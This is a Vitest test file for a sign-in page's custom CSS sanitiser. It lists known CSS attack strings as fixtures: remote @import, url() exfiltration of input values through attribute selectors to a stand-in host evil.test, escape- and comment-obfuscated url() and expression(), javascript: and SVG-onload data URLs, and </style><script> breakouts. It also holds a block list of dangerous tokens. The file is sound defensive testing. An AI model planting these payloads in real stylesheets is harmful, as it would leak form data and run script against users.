/** The custom CSS sanitiser against known CSS attacks: nothing that could load, run or leak is kept. */
import { describe, expect, it } from 'vitest';
import { CSS_MAX_CHARS, CssRefused, readable, sanitizeCss } from './css-sanitizer.js';

/** What a browser could be made to fetch or run by the stored CSS, read the way it reads it. */
function dangerous(css: string): string[] {
  const r = readable(css).toLowerCase();
  return ['url(', '@import', 'expression', 'behavior', '-moz-binding', 'javascript:', 'image-set', '<', '@font-face', 'src:'].filter((s) =>
    s === 'url(' ? /url\s*\(\s*['"]?(?!data:image\/(png|gif|jpeg|webp);base64,)/.test(r) : r.includes(s),
  );
}

const ATTACKS: [name: string, css: string][] = [
  ['@import of another sheet', '@import url("https://evil.test/x.css"); .a { color: red }'],
  ['@import as a string', "@import 'https://evil.test/x.css';"],
  ['@IMPORT in capitals', '@IMPORT "https://evil.test/x.css";'],
  ['escaped @import', '@\\69mport "https://evil.test/x.css";'],
  ['url() exfiltration by attribute selector', 'input[value^="a"] { background: url(https://evil.test/?a) }'],
  ['url() without quotes, spaced', '.a { background-image: url (  //evil.test/a.png ) }'],
  ['url() hidden by an escape', '.a { background: \\75 rl(https://evil.test/) }'],
  ['url() hidden by a hex escape without space', '.a { background: u\\72l(https://evil.test/) }'],
  ['url() split by a comment', '.a { background: ur/**/l(https://evil.test/) }'],
  ['url() in a custom property', '.a { --x: url(https://evil.test/) } .b { background: var(--x) }'],
  ['url() in list-style', 'li { list-style: url(https://evil.test/x.png) }'],
  ['url() in cursor', '.a { cursor: url(https://evil.test/c.cur), auto }'],
  ['SVG data url (can hold script)', '.a { background: url("data:image/svg+xml,<svg onload=alert(1)>") }'],
  ['image-set with strings (no url())', '.a { background-image: image-set("https://evil.test/a.png" 1x) }'],
  ['-webkit-image-set', '.a { background-image: -webkit-image-set("https://evil.test/a.png" 1x) }'],
  ['@font-face loading a font', '@font-face { font-family: x; src: url(https://evil.test/f.woff) }'],
  ['expression()', '.a { width: expression(alert(1)) }'],
  ['escaped expression()', '.a { width: expr\\65ssion(alert(1)) }'],
  ['behavior', '.a { behavior: url(#default#VML) }'],
  ['-moz-binding', '.a { -moz-binding: url("http://evil.test/xbl.xml#x") }'],
  ['javascript: address', '.a { background: url(javascript:alert(1)) }'],
  ['</style> breakout in a value', '.a { content: "</style><script>alert(1)</script>" }'],
  ['</style> breakout in a selector', '.a</style><script>alert(1)</script> { color: red }'],
  ['escaped < in a value', '.a { content: "\\3c /style>" }'],
  ['@media with url() in its condition', '@media url(https://evil.test/) { .a { color: red } }'],
  ['url() inside @media', '@media (min-width: 1px) { input[value$="z"] { background: url(https://evil.test/z) } }'],
  ['url() inside @supports', '@supports (display: grid) { .a { background: url(https://evil.test/) } }'],
  ['url() inside @keyframes', '@keyframes k { from { background: url(https://evil.test/) } }'],
  ['@namespace', '@namespace url(http://www.w3.org/1999/xhtml); .a { color: red }'],
  ['declaration at the top level', 'background: url(https://evil.test/);'],
];

describe('sanitizeCss: known attacks', () => {
  it.each(ATTACKS)('%s: refused, or nothing dangerous is kept and the removal is reported', (_name, css) => {
    let result: ReturnType<typeof sanitizeCss>;
    try {
      result = sanitizeCss(css);
    } catch (err) {
      // Refused as a whole: nothing is stored, and the author is told why.
      expect(err).toBeInstanceOf(CssRefused);
      return;
    }
    const { css: out, removed } = result;
    expect(dangerous(out)).toEqual([]);
    expect(removed.length).toBeGreaterThan(0);
    for (const r of removed) expect(r.why.length).toBeGreaterThan(0);
  });

  it('keeps the harmless rules around a removed one', () => {
    const { css, removed } = sanitizeCss('@import "x.css";\nh1 { color: #123456 }\n.a { background: url(https://evil.test/) ; color: red }');
    expect(css).toBe('.signin-design h1 { color: #123456 }\n.signin-design .a { color: red }');
    expect(removed).toEqual([
      { what: '@import "x.css"', why: '@import loads another stylesheet' },
      {
        what: 'background: url(https://evil.test/)',
        why: 'url() may only hold an inline PNG, GIF, JPEG or WebP image: anything else would load from elsewhere',
      },
    ]);
  });
});

describe('sanitizeCss: what an author writes', () => {
  it('scopes every rule to the sign-in page root; html, body and :root become the root', () => {
    const { css, removed } = sanitizeCss('body { background: #fafafa }\n:root { --brand: #0e7c74 }\nh1, .sub p { color: var(--brand) }');
    expect(removed).toEqual([]);
    expect(css).toBe(
      '.signin-design { background: #fafafa }\n.signin-design { --brand: #0e7c74 }\n.signin-design h1, .signin-design .sub p { color: var(--brand) }',
    );
  });

  it('keeps @media, @supports and @keyframes, scoping their rules (not keyframe steps)', () => {
    const { css, removed } = sanitizeCss('@media (max-width: 600px) { h1 { font-size: 20px } }\n@keyframes fade { from { opacity: 0 } to { opacity: 1 } }');
    expect(removed).toEqual([]);
    expect(css).toBe('@media (max-width: 600px) { .signin-design h1 { font-size: 20px } }\n@keyframes fade { from { opacity: 0 } to { opacity: 1 } }');
  });

  it('keeps an inline PNG background', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    expect(sanitizeCss(`.logo { background: url("${png}") }`)).toEqual({ css: `.signin-design .logo { background: url("${png}") }`, removed: [] });
  });

  it('drops comments (they could hide text from a reader of the stored CSS)', () => {
    expect(sanitizeCss('/* hello */ h1 { color: red /* inside */ }').css).toBe('.signin-design h1 { color: red }');
  });

  it('empty stays empty; unreadable CSS is refused with its line and column; size and NUL are refused', () => {
    expect(sanitizeCss('   ')).toEqual({ css: '', removed: [] });
    expect(() => sanitizeCss('h1 { color: red')).toThrow(CssRefused);
    expect(() => sanitizeCss('h1 { color: red')).toThrow(/line 1, column 1/);
    expect(() => sanitizeCss('a'.repeat(CSS_MAX_CHARS + 1))).toThrow('Custom CSS can have at most 20,000 characters.');
    expect(() => sanitizeCss('h1 { color: red }\u0000')).toThrow('Custom CSS cannot contain NUL characters.');
  });
});

describe('readable', () => {
  it('decodes escapes and drops comments the way a browser reads them', () => {
    expect(readable('\\75 rl(')).toBe('url(');
    expect(readable('u\\72l(')).toBe('url(');
    expect(readable('ur/**/l(')).toBe('url(');
    expect(readable('\\3c /style>')).toBe('</style>');
    expect(readable('\\@import')).toBe('@import');
  });
});
